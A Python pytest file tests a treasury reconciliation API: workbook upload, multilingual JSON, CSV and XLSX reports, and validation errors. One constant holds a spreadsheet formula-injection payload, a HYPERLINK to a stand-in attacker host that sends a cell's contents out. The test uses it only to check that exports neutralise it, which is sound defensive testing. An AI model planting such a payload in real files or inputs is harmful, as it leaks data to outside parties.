"""A finance officer reconciles the treasury's workbook over HTTP (issue 12 §3): the raw
body upload with `date_tolerance`, the report as JSON, CSV and XLSX in Chinese or
English, hostile payee names as text, bad rows as a 422 naming row and header."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from decimal import Decimal
from typing import Any

import pytest

from service.ledger import Ledger
from tests.api_support import HOME, PROVINCE, Api, running_api
from tests.treasury_support import paid_workers, treasury_row, workbook

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
COUNTY = f"/reconciliations?source=local_treasury&division={HOME}&period=2018-02"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'


@pytest.fixture
def api(make_ledger: Callable[[], Ledger]) -> Iterator[Api]:
    with running_api(make_ledger()) as api:
        api.token("finance", "finance", HOME)
        api.token("auditor", "auditor", PROVINCE)
        yield api


def upload(api: Api, path: str, content: bytes) -> Any:
    headers = api.headers(
        "finance", **{"Content-Type": XLSX, "X-File-Name": "treasury-2018-02.xlsx"}
    )
    return api.client.post(f"/v1{path}", content=content, headers=headers)


def test_finance_reconciles_the_treasury_workbook_and_reads_the_report_in_every_format(
    api: Api,
) -> None:
    paid = paid_workers(api.ledger, 3)
    rows = [treasury_row(n, p) for n, p in enumerate(paid)]
    rows.append(treasury_row(3, paid[0], 0, 收款人名称=HOSTILE, 证件号码=None, **{"支付金额（元）": "9.99"}))  # fmt: skip
    created = upload(api, COUNTY, workbook(rows))
    assert created.status_code == 201, created.text
    report = created.json()
    assert (report["totals"]["matched"], report["totals"]["unmatched_treasury"]) == (3, 1)
    kept = f"/reconciliations/{report['reconciliation_id']}"
    assert api.get("auditor", kept).json()["lines"] == report["lines"]

    book = xlsx_of(api.get("auditor", kept + "?format=xlsx"))
    lines = book["对账明细"]
    header = [cell.value for cell in lines[1]]
    assert header[:3] == ["对账结果", "匹配依据", "匹配方式"] and "身份证号" in header
    column = {title: index for index, title in enumerate(header)}
    body = list(lines.iter_rows(min_row=2))
    assert {row[column["对账结果"]].value for row in body} == {"已匹配", "国库有、账上无"}
    amounts = [row[column["国库金额"]] for row in body]
    assert all(cell.data_type == "n" for cell in amounts)
    assert sum(Decimal(repr(cell.value)) for cell in amounts) == Decimal("909.99")
    payees = [row[column["收款人"]] for row in body]
    assert f"'{HOSTILE}" in {cell.value for cell in payees}
    assert all(cell.data_type == "s" for cell in payees)
    totals = {row[0].value: row[1].value for row in book["汇总"].iter_rows()}
    assert totals["已匹配"] == 3 and totals["国库有、账上无"] == 1

    english = api.get("auditor", kept + "?lang=en", Accept="text/csv")
    assert english.headers["content-type"].startswith("text/csv")
    assert "reconciliation-local_treasury-430102-20180201-20180228.csv" in english.headers["content-disposition"]  # fmt: skip
    rows_en = list(csv.DictReader(io.StringIO(english.content.decode("utf-8-sig"), newline="")))
    assert {row["status"] for row in rows_en} == {"matched", "unmatched_treasury"}
    assert {row["matched by"] for row in rows_en} == {"id_number", ""}
    chinese = api.get("auditor", kept, Accept="text/csv")
    assert "filename*=UTF-8''%E5%9B%BD%E5%BA%93" in chinese.headers["content-disposition"]


def xlsx_of(response: Any) -> Any:
    from openpyxl import load_workbook

    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    return load_workbook(io.BytesIO(response.content))


def test_the_date_tolerance_is_a_query_parameter(api: Api) -> None:
    paid = paid_workers(api.ledger, 2)
    content = workbook([treasury_row(n, p) for n, p in enumerate(paid)])
    strict = upload(api, COUNTY + "&date_tolerance=1", content).json()
    assert strict["totals"]["date_mismatch"] == 2 and strict["date_tolerance"] == 1
    assert upload(api, COUNTY + "&date_tolerance=3", content).json()["totals"]["matched"] == 2


@pytest.mark.parametrize("tolerance", ["-1", "32", "３", "1.5", "", "9" * 40])
def test_a_date_tolerance_that_is_not_0_to_31_ascii_days_is_a_422(api: Api, tolerance: str) -> None:
    paid_workers(api.ledger, 1)
    refused = upload(api, COUNTY + f"&date_tolerance={tolerance}", b"x")
    assert refused.status_code == 422, refused.text
    assert refused.json()["field"] == "date_tolerance"


def test_bad_rows_are_a_422_naming_each_row_and_its_header(api: Api) -> None:
    (paid,) = paid_workers(api.ledger, 1)
    rows = [treasury_row(0, paid, **{"支付日期": "2018-02-30"}), treasury_row(1, paid, 证件号码="12345")]  # fmt: skip
    refused = upload(api, COUNTY, workbook(rows))
    assert refused.status_code == 422, refused.text
    assert refused.headers["content-type"] == "application/problem+json"
    errors = refused.json()["errors"]
    assert [(error["row"], error["column"]) for error in errors] == [
        (5, "支付日期"),
        (6, "证件号码"),
    ]
